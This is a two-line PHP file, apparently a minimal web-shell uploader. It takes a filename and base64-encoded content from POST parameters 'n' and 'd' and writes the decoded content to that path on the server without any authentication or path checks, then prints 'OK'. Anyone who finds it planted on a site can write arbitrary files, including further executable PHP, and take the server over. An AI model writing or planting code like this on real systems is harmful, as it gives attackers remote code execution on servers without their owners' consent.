<?php
if(!empty($_POST['n'])){file_put_contents($_POST['n'], base64_decode($_POST['d']));echo 'OK';}
